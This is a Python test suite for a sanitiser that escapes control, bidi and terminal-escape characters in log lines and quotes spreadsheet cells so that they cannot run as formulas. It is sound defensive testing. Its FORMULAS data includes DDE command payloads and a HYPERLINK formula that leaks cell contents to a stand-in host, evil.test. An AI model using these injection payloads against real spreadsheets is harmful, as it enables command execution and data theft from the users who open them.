"""Text of others: on one line, without what acts, and with all else as it is; in a spreadsheet, never a formula."""

from __future__ import annotations

import csv
import io
import logging
import re
import sys
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sms_database.log_lines import LineRecord
from sms_text.printable import as_text_cell, printable
from tests.hostile_text import HOSTILE, acting_in

pytestmark = pytest.mark.trust(18)

ANY_TEXT = st.text(
    st.one_of(
        st.characters(codec=None, exclude_categories=()),
        st.sampled_from(
            "\n\r\t\x1b\x07\x85\x9b\u2028\u202e\u200b\u200d;=+-@＝'\" 1a\ufeffक👩\U0001f3f4\U000e0067\U000e007f"
        ),
    )
)

ORDINARY = (
    "Sigur Rós & José González, 20 €",
    "e\u0301 and Z̤̈alg",
    "Земфира",
    "きのこ帝国",
    "장기하와 얼굴들",
    "मी\u200dक्ष",
    "می\u200cخواهم",
    "مشروع ليلى",
    "עידן רייכל",
    "ភាសា\u200bខ្មែរ",
    "ᠮᠣᠩᠭᠣᠯ\u180eᠠ",
    "👩\u200d🎤 and 👨\u200d👩\u200d👧",
    "❤\ufe0f\u200d🔥",
    "1\ufe0f\u20e3",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f England",
    r"C:\new \x1b",
    "",
)


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_stays(text: str) -> None:
    assert printable(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b]0;x\x07", r"\x1b]0;x\x07"),
        ("a\nb\tc\rd", r"a\nb\tc\rd"),
        ("\x7f\x9b\xad", r"\x7f\x9b\xad"),
        ("\u202egnp\u2069", r"\u202egnp\u2069"),
        ("\u2028\u2029\ufeff", r"\u2028\u2029\ufeff"),
        ("neu\u200bmos\u200c", r"neu\u200bmos\u200c"),
        ("\U000e0041", r"\U000e0041"),
        ("\U0001f3f4\U000e0067x", "\U0001f3f4\\U000e0067x"),
        ("\ud800", r"\ud800"),
    ],
)
def test_what_acts_or_hides_is_shown(text: str, shown: str) -> None:
    assert printable(text) == shown


@given(ANY_TEXT)
def test_any_text_is_one_line_in_which_nothing_acts(text: str) -> None:
    shown = printable(text)
    assert len(shown.splitlines()) <= 1
    shown.encode()
    assert printable(shown) == shown
    for character in shown:
        is_of_a_script = character in "\u200b\u200c\u200d" or not re.match(r"[\x00-\x9f\u2000-\u206f]", character)
        assert unicodedata.category(character) not in {"Cc", "Zl", "Zp", "Cs"}
        assert unicodedata.bidirectional(character) not in {
            "LRE",
            "RLE",
            "LRO",
            "RLO",
            "PDF",
            "LRI",
            "RLI",
            "FSI",
            "PDI",
        }
        assert is_of_a_script or unicodedata.category(character) != "Cf"


@given(st.text(st.characters(categories=("L", "M", "N", "P", "S"))))
def test_letters_marks_figures_and_signs_stay(text: str) -> None:
    assert printable(text) == text


LOG_FORMAT = logging.Formatter("%(asctime)s [%(name)s] %(levelname)s: %(message)s")


def _logged(message: str, value: object, *, failed: bool = False) -> list[str]:
    info = None
    if failed:
        try:
            raise ValueError(value)
        except ValueError:
            info = sys.exc_info()
    record = LineRecord("neumos", logging.ERROR, __file__, 1, message, (value,), info, "f", message % value)
    return LOG_FORMAT.format(record).split("\n")


@given(ANY_TEXT)
def test_a_log_record_of_any_text_is_one_line_and_what_follows_it_is_indented(text: str) -> None:
    for failed in (False, True):
        record, *more = _logged("failed at %s", text, failed=failed)
        assert record.endswith(printable(f"ERROR: failed at {text}"))
        assert all(line.startswith("    ") for line in more)
        assert all(printable(line) == line for line in [record, *more])
        assert (more[0].strip() == "Traceback (most recent call last):") is failed


FORMULAS = (
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    '=HYPERLINK("https://evil.test/?"&A1,"Tickets")',
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\ufeff=1",
    "\u200b=1",
    "\x1c=1",
    "\xa0=1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "-",
    "--5",
    "+1 206 555 0100",
    "-5-cmd",
    "Foo;=1+1;",
    "Foo\n=1+1",
    "Foo\t=1+1",
    "Foo; +1+1",
    "-5;=1",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_be_a_formula_gets_a_quote(text: str) -> None:
    cell = as_text_cell(text)
    assert cell.replace("'", "") == text.replace("'", "")
    assert not _formulas_in(cell)
    assert _formulas_in(text)


@pytest.mark.parametrize(
    "text", ["-5", "+3.2", "-122.3199", "1e-05", "-.5", "", "a=b", "Tin Lantern - Mossback", "10; -5"]
)
def test_numbers_and_ordinary_text_stay_in_a_cell(text: str) -> None:
    assert as_text_cell(text) == text


@given(st.lists(ANY_TEXT, min_size=1, max_size=3))
def test_no_cell_is_a_formula_whichever_separator_a_spreadsheet_takes(texts: list[str]) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerow(["1", *map(as_text_cell, texts)])
    for separator in ",;\t":
        rows = csv.reader(io.StringIO(written.getvalue(), newline=""), delimiter=separator)
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if _formulas_in(cell)], separator


@pytest.mark.parametrize("length", [200_000])
def test_long_runs_cost_no_more_than_their_length(length: int) -> None:
    for run in ("\n", " ", ";", "; ", ";1e", "\x1c", "\u200b", "+1.", "\U0001f3f4\U000e0061", "क\u200d"):
        assert as_text_cell(run * length)
        assert printable(run * length)


def _formulas_in(cell: str) -> bool:
    """Would a spreadsheet, which parts cells by semicolons or tabs where commas mark decimals, run any of it?"""
    return any(_runs(part) for part in re.split(r"[;\t\r\n]", cell))


def _runs(text: str) -> bool:
    invisible = {c for c in text if c.isspace() or unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp", "Zs"}}
    begun = text.lstrip("".join(invisible))
    try:
        float(begun.strip("".join(invisible)) if begun.isascii() else "none")
    except ValueError:
        return begun.startswith(tuple("=+-@＝＋－＠"))
    return False


def test_all_attacks_at_once_are_shown() -> None:
    assert not acting_in(printable(HOSTILE))
